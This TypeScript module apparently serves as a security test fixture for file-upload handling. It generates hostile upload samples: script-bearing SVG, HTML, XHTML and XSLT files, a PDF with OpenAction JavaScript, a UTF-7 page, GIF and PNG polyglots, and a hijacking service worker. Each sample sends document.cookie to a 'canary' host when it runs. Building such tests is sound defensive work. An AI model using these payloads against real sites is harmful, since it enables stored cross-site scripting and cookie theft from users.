import { gif } from '../support/assets.js';
import { chunk, pngOf, rowsOf } from '../files/pictures/samples.js';

/** A file that an attacker uploads. */
export interface HostileFile {
  readonly name: string;
  readonly bytes: Buffer;
  /** What a server that believes its clients would send it as. */
  readonly claimed: string;
  /** Whether something of it runs, or is loaded, where a server does. */
  readonly runs?: boolean;
  /** Whether `<img>` shows it. */
  readonly isPicture?: boolean;
}

type Text = string | Buffer;

/** Each tells of itself at `canary/NAME` when it runs, and leaves its name in the page. */
export function hostileFiles(canary: string): readonly HostileFile[] {
  const files = [...markup(canary), ...documents(canary), ...mixtures(canary), worker(canary)];
  return files.map(({ bytes, ...file }) => ({ ...file, bytes: Buffer.from(bytes as string) }));
}

/** Without quotes and angles, so that it may stand anywhere. */
function scriptOf(canary: string, name: string): string {
  return `document.title='ran';globalThis.ran='${name}';new Image().src='${canary}/${name}?'+encodeURIComponent(document.cookie)`;
}

type Draft = Omit<HostileFile, 'bytes'> & { readonly bytes: Text };

const svgOf = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" ${attributes}>${inside}</svg>`;

function markup(canary: string): readonly Draft[] {
  const script = (name: string): string => `<script>${scriptOf(canary, name)}</script>`;
  const html = (name: string): string => `<!doctype html><title>x</title>${script(name)}`;
  const svg = { claimed: 'image/svg+xml', runs: true, isPicture: true };
  const page = { claimed: 'text/html', runs: true };
  const link = `data:text/javascript,${encodeURIComponent(scriptOf(canary, 'link.svg'))}`;
  const onError = `<img src="x:" onerror="${scriptOf(canary, 'foreign.svg')}"/>`;
  return [
    { ...svg, name: 'script.svg', bytes: svgOf(script('script.svg')) },
    { ...svg, name: 'onload.svg', bytes: svgOf('', `onload="${scriptOf(canary, 'onload.svg')}"`) },
    {
      ...svg,
      name: 'foreign.svg',
      bytes: svgOf(
        `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">${onError}</body></foreignObject>`,
      ),
    },
    {
      ...svg,
      name: 'link.svg',
      bytes: svgOf(
        `<a xlink:href="javascript:${scriptOf(canary, 'link.svg')}"><rect width="9" height="9"/></a><script xlink:href="${link}"/>`,
      ),
    },
    { ...svg, name: 'wide.svg', bytes: Buffer.from(`\ufeff${svgOf(script('wide.svg'))}`, 'utf16le') },
    { ...page, name: 'page.html', bytes: html('page.html') },
    { ...page, name: 'mark.html', bytes: `\ufeff${html('mark.html')}` },
    { ...page, name: 'far.html', bytes: `${' '.repeat(5000)}${html('far.html')}` },
    {
      ...page,
      name: 'binary.html',
      bytes: Buffer.concat([Buffer.from([0, 1, 2, 255]), Buffer.from(html('binary.html'))]),
    },
    {
      name: 'page.xhtml',
      claimed: 'application/xhtml+xml',
      runs: true,
      bytes: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>${script('page.xhtml')}</head><body/></html>`,
    },
    {
      name: 'named.xml',
      claimed: 'text/xml',
      runs: true,
      bytes: `<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${scriptOf(canary, 'named.xml')}</h:script></x>`,
    },
    {
      // Not every Chromium transforms it.
      name: 'styled.xml',
      claimed: 'text/xml',
      bytes: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#style"?><!DOCTYPE x [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><x><xsl:stylesheet id="style" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html>${script('styled.xml')}</html></xsl:template></xsl:stylesheet></x>`,
    },
  ];
}

function documents(canary: string): readonly Draft[] {
  const html = (name: string): string => `<html><script>${scriptOf(canary, name)}</script></html>`;
  const action = `app.alert('x');this.submitForm('${canary}/acts.pdf');app.launchURL('${canary}/acts.pdf')`;
  return [
    {
      name: 'acts.pdf',
      claimed: 'application/pdf',
      bytes: `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${action.replace(/[()]/g, '\\$&')})>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(${canary}/acts.pdf)>>>>>>endobj
trailer<</Root 1 0 R>>
%%EOF`,
    },
    { name: 'script.png', claimed: 'text/javascript', runs: true, bytes: scriptOf(canary, 'script.png') },
    {
      name: 'style.css',
      claimed: 'text/css',
      runs: true,
      bytes: `@import '${canary}/style.css'; body { background: url(${canary}/style.css) }`,
    },
    { name: 'page.json', claimed: 'application/json', bytes: JSON.stringify({ x: html('page.json') }) },
    {
      name: 'page.mhtml',
      claimed: 'multipart/related',
      bytes: `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://x/\r\n\r\n${html('page.mhtml')}\r\n--b--\r\n`,
    },
    {
      name: 'film.swf',
      claimed: 'application/x-shockwave-flash',
      bytes: Buffer.concat([Buffer.from('FWS\x09\x40\0\0\0', 'latin1'), Buffer.from(html('film.swf'))]),
    },
    {
      name: 'seven.html',
      claimed: 'text/html; charset=utf-7',
      bytes: html('seven.html').replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    },
  ];
}

/** What is a picture, and something else as well. */
function mixtures(canary: string): readonly Draft[] {
  const picture = Buffer.from(gif);
  picture.write('/*', 6); // its width, and the beginning of a comment
  const html = Buffer.from(`<html><script>${scriptOf(canary, 'html.png')}</script></html>`);
  return [
    {
      name: 'script.gif',
      claimed: 'text/javascript',
      runs: true,
      isPicture: true,
      bytes: Buffer.concat([picture, Buffer.from(`*/=1;${scriptOf(canary, 'script.gif')}`)]),
    },
    {
      name: 'html.png',
      claimed: 'text/html; charset=utf-8',
      runs: true,
      isPicture: true,
      bytes: Buffer.concat([
        pngOf({ width: 1, height: 1 }, rowsOf(1, 3), [
          chunk('tEXt', Buffer.concat([Buffer.from('x\0'), html])),
        ]),
        html,
      ]),
    },
  ];
}

/** The last one: where it gets in, it answers for all that are opened after it. */
function worker(canary: string): Draft {
  const script = `self.onfetch=(e)=>e.respondWith(new Response('taken'));fetch('${canary}/worker.js')`;
  return { name: 'worker.js', claimed: 'text/javascript', runs: true, bytes: script };
}
